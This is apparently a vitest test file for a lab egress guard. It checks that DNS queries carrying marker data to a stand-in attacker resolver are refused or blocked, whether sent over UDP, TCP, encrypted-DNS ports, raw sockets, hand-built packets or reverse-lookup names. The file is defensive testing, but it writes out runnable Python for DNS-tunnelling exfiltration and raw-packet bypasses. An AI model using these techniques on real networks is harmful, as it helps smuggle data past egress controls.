// Questions as a way out, end to end: what must not leave carries a marker the sniffer looks for, and
// the same path works for what is allowed.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { until } from '../lab/lab.ts';
import {
  ATTACKER,
  a,
  DNS_WISHES,
  DnsArena,
  HOME,
  OK,
  REFUSED,
  RESOLVER,
  UPSTREAM,
} from './dns-arena.ts';
import { isDocumented, Told } from './told.ts';

const arena = new DnsArena('bdnsq');
const told = new Told();
/** Private, on the loopback of the lab's internet. */
const PRIVATE = '10.1.2.3';

beforeAll(async () => {
  await arena.open();
  await arena.guard(DNS_WISHES);
}, 60_000);
afterAll(() => {
  arena.close();
  told.print();
});

async function expectRefused(name: string, ...words: string[]): Promise<void> {
  expect(await arena.refused(name, ...words)).toEqual(REFUSED);
}

describe('questions to somebody else', () => {
  test('case 63, other resolvers by UDP', async () => {
    await expectRefused(`${arena.marker()}.evil.test`, `@${ATTACKER}`);
    expect(arena.dig(OK, `@${ATTACKER}`)).toContain(HOME);
    expect([...arena.ports]).toEqual([`${UPSTREAM} 53`]);
    told.closed(63, 'other resolvers by UDP');
  });

  test('case 64, other resolvers by TCP, and the second message of a stream', async () => {
    await expectRefused(`${arena.marker()}.evil.test`, '+tcp', `@${ATTACKER}`);
    await expectRefused(`${arena.marker()}.evil.test`, '+tcp', `@${RESOLVER}`);
    expect(arena.dig(OK, '+tcp', `@${ATTACKER}`)).toContain(HOME);
    const name = `${arena.marker()}.evil.test`;
    const got = arena.python(
      `
import socket, struct, sys
def message(i, n): return struct.pack('>6H', i, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\0\\0\\1\\0\\1'
def framed(m): return struct.pack('>H', len(m)) + m
s = socket.create_connection(('${ATTACKER}', 53), 3)
s.sendall(framed(message(1, '${OK}')) + framed(message(2, sys.argv[1])))
f = s.makefile('rb'); got = {}
for _ in range(2):
    m = f.read(struct.unpack('>H', f.read(2))[0]); got[m[1]] = m[3] & 15
print(got[1], got[2])`,
      name,
    );
    expect(got).toBe('0 5');
    await arena.refusal(name);
    expect(await arena.hasArrived(name.split('.')[0] ?? '')).toBe(false);
    told.closed(64, 'other resolvers by TCP, and the second message of a stream');
  });

  test('case 66, DNS over TLS, over QUIC, and DNSCrypt', async () => {
    const marker = arena.marker();
    for (const to of [ATTACKER, RESOLVER]) {
      expect(arena.connect(to, 853)).toBe('PermissionError');
      expect(await arena.block(to, 853)).toMatchObject({ protocol: 'TCP', process: 'python3' });
      const from = (await arena.events()).length;
      for (const port of [853, 443]) {
        const send = `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'${marker}', ('${to}', ${port}))`;
        expect(arena.python(send)).toContain('PermissionError');
        expect(await arena.block(to, port, from)).toMatchObject({ protocol: 'UDP' });
      }
    }
    expect(await arena.hasArrived(marker)).toBe(false);
    // where a rule lists it: the far side refuses, not the wall
    expect(arena.connect('198.51.100.30', 853)).toBe('ConnectionRefusedError');
    told.closed(66, 'DNS over TLS, over QUIC, and DNSCrypt');
  });

  test('case 68, a container asks the upstream itself', async () => {
    const { lab } = arena.guarded;
    for (const server of [UPSTREAM, RESOLVER, ATTACKER]) {
      for (const words of [[], ['+tcp']]) {
        const name = `${arena.marker()}.evil.test`;
        const ask = (what: string) =>
          lab.runBoxed('dig', '+tries=1', '+time=3', ...words, `@${server}`, what).stdout;
        expect(ask(name)).toContain('status: REFUSED');
        expect(await arena.refusal(name)).toMatchObject({ origin: 'container' });
        expect(await arena.hasArrived(name.split('.')[0] ?? '')).toBe(false);
        expect(ask(OK)).toContain(HOME);
      }
    }
    told.closed(68, 'a container asks the upstream itself');
  });

  test.each([
    ['a frame', `frame(b'\\x08\\0', ipv4(17, udp(M)))`],
    [
      'a raw socket',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17); s.sendto(udp(M), (TO, 0))`,
    ],
    [
      'a raw socket with a header of its own',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(ipv4(17, udp(M)), (TO, 0))`,
    ],
  ])('case 69, %s to the upstream', async (what, script) => {
    const marker = arena.marker();
    const from = (await arena.events()).length;
    arena.guarded.run(
      ...['setpriv', '--reuid=1001', '--regid=1001', '--clear-groups'],
      ...['--inh-caps=-all,+net_raw', '--ambient-caps=+net_raw', '--', '/usr/bin/python3', '-c'],
      `
import os, socket, struct
TO = '${UPSTREAM}'
M = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + bytes([${marker.length}]) + b'${marker}' + b'\\4evil\\4test\\0\\0\\1\\0\\1'
def udp(p): return struct.pack('>HHHH', 30000 + os.getpid() % 30000, 53, 8 + len(p), 0) + p
def ipv4(proto, payload):
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, socket.inet_aton('192.0.2.2'), socket.inet_aton(TO))
    s = sum(struct.unpack('>10H', head)); s = (s >> 16) + (s & 0xffff)
    return head[:10] + struct.pack('>H', ~s & 0xffff) + head[12:] + payload
def frame(kind, payload):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('up0', 0)); s.send(b'\\xff' * 6 + s.getsockname()[4] + kind + payload)
try:
    ${script}
except OSError as e: print(e)
`,
    );
    expect(await arena.block(UPSTREAM, 53, from)).toMatchObject({ protocol: 'UDP' });
    expect(await arena.hasArrived(marker)).toBe(false);
    expect(arena.dig(OK, `@${UPSTREAM}`)).toContain(HOME);
    told.closed(69, `${what} to the upstream`);
  });
});

describe('names that carry data', () => {
  test('case 70, a name nobody has allowed', async () => {
    await expectRefused(`${arena.marker()}.evil.test`);
    expect(arena.dig(OK)).toContain(HOME);
    told.closed(70, 'a name nobody has allowed');
  });

  test('case 71, labels below an allowed name leave, below an exact one they do not', async () => {
    const below = arena.marker();
    arena.dig(`${below}.${OK}`);
    expect(await arena.hasArrived(below)).toBe(true);
    const names = Array.from({ length: 100 }, () => `${arena.marker()}.exact.example`);
    arena.dig(...names.flatMap((name) => [name, 'A']));
    await arena.refusal(names.at(-1) ?? '');
    const refused = (await arena.events()).filter(({ dst_hostname: name = '' }) =>
      names.includes(name),
    );
    expect(refused).toHaveLength(names.length);
    await arena.hasArrived(below);
    expect(names.filter((name) => arena.arrived.has(name.split('.')[0] ?? ''))).toEqual([]);
    expect(arena.dig('exact.example')).toContain(HOME);
    told.closed(71, 'labels below an exact name');
    told.limit(71, 'labels below an allowed name', 'L3');
  });

  test('case 71, 500 random labels below an allowed name pass, and one event says so', async () => {
    const random = (index: number) =>
      createHash('sha256').update(String(index)).digest('hex').slice(0, 30);
    const ordinary = Array.from({ length: 200 }, (_, index) => `mirror-${index}.cdn.example`);
    const labels = Array.from({ length: 500 }, (_, index) => `${random(index)}.${OK}`);
    const ask = (names: readonly string[]) =>
      arena.dig('+noall', '+comments', ...names.flatMap((name) => [name, 'A']));
    expect(ask(ordinary).match(/status: NXDOMAIN/gu)).toHaveLength(ordinary.length);
    expect(ask(labels).match(/status: NXDOMAIN/gu)).toHaveLength(labels.length);
    await arena.hasArrived('');
    expect(labels.filter((name) => !arena.asked.includes(`${name} A`))).toEqual([]);
    const unusual = () => arena.records().filter(({ event_type: kind }) => kind === 'dns_unusual');
    await until(() => unusual().length > 0, 'the event');
    expect(unusual()).toEqual([
      expect.objectContaining({
        matched_rule: OK,
        would_deny: false,
        blocked: false,
        process: expect.stringMatching(/^(?:dig|isc-net)/u),
        longest_label: 30,
        example: expect.stringMatching(/^[0-9a-f]{30}\.ok\.example$/u),
      }),
    ]);
    expect(isDocumented('L3')).toBe(true);
    told.limit(71, '500 random labels below an allowed name, which are told', 'L3');
  });

  test('case 72, a public answer below a search domain', async () => {
    const name = 'data.corp.example.net';
    await arena.answers(name, a(name, ATTACKER));
    const said = arena.dig(name);
    expect(said).toContain('status: NOERROR');
    expect(said).not.toContain(ATTACKER);
    expect(await arena.refusal(name)).toMatchObject({
      reason: 'public addresses below a search domain',
    });
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    await arena.answers('db.corp.example.net', a('db.corp.example.net', PRIVATE));
    expect(arena.dig('db.corp.example.net')).toContain(PRIVATE);
    told.closed(72, 'a public answer below a search domain');
  });

  test('case 73, reverse names', async () => {
    expect(arena.dig(OK)).toContain(HOME);
    const nibbles = (index: number) =>
      [...(0x5ec0_0000 + index).toString(16).padStart(20, '0')].join('.');
    for (let index = 0; index < 20; index++) {
      const name = `${nibbles(index)}.8.b.d.0.1.0.0.2.0.0.0.0.ip6.arpa`;
      expect(arena.dig(name, 'PTR')).toContain('status: NXDOMAIN');
    }
    expect(arena.dig('-x', '203.0.113.77')).toContain('status: NXDOMAIN');
    const [, ...rest] = nibbles(1);
    await expectRefused(`${arena.marker()}${rest.join('')}.113.0.203.in-addr.arpa`, 'PTR');
    expect(arena.dig('-x', HOME)).toContain(OK);
    expect(arena.asked.filter((text) => text.includes('arpa'))).toEqual([]);
    told.closed(73, 'reverse names');
  });

  test('cases 75 and 76, what is denied starts no look-up, and a reverse name opens nothing', async () => {
    const reverse = `${ATTACKER.split('.').reverse().join('.')}.in-addr.arpa`;
    await arena.script({
      key: `${reverse} PTR`,
      reply: { answers: [{ name: reverse, type: 'PTR', ttl: 60, data: OK }] },
    });
    const from = (await arena.events()).length;
    const before = arena.asked.length;
    const many = `
import socket
for i in range(50):
    s = socket.socket(); s.settimeout(1)
    try: s.connect(('203.0.113.%d' % (100 + i), 443)); print('connected')
    except PermissionError: pass
`;
    expect(arena.python(many)).toBe('');
    for (let round = 0; round < 2; round++) {
      expect(arena.connect(ATTACKER)).toBe('PermissionError');
      expect(arena.dig('-x', ATTACKER)).toContain('status: NXDOMAIN');
    }
    const isHere = (address: string) => address === ATTACKER || address.startsWith('203.0.113.');
    const events = await arena.events(
      (all) => all.slice(from).filter(({ dst_ip: to = '' }) => isHere(to)).length === 52,
    );
    for (const event of events.slice(from).filter(({ dst_ip: to = '' }) => isHere(to))) {
      expect(event).toMatchObject({ event_type: 'connection_blocked', blocked: true });
      expect(event.dst_hostname ?? '').not.toContain('ok');
    }
    await arena.hasArrived('');
    const asked = arena.asked.slice(before);
    expect(asked.filter((text) => /arpa|198\.51|203\.0/u.test(text))).toEqual([]);
    told.closed(75, 'what is denied starts no look-up');
    told.closed(76, 'a reverse name opens nothing');
  });
});
